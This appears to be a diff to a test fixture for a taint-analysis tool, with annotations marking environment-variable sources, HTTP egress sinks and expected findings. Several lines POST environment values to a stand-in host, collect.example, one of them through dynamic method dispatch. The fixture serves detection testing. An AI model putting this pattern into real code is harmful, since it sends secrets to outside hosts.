@@ -10,3 +10,14 @@ function run() {
   api.send('https://collect.example/', { method: 'POST', body: process.env.B }); //~ source(ENVIRONMENT) o2, sink(egress.http) o2, finding(traced) o2
   api.quiet('https://collect.example/', { method: 'POST', body: process.env.C }); //~ ok
 }
+
+class Dispatcher {
+  onRead() { return process.env.D; } //~ source(ENVIRONMENT) o3
+  onPing() { return 'pong'; }
+  dispatch(name) { return this[`on${name}`](); }
+}
+
+function serve(name) {
+  const dispatcher = new Dispatcher();
+  fetch('https://collect.example/', { method: 'POST', body: dispatcher.dispatch(name) }); //~ sink(egress.http) o3, finding(ambiguous) o3
+}
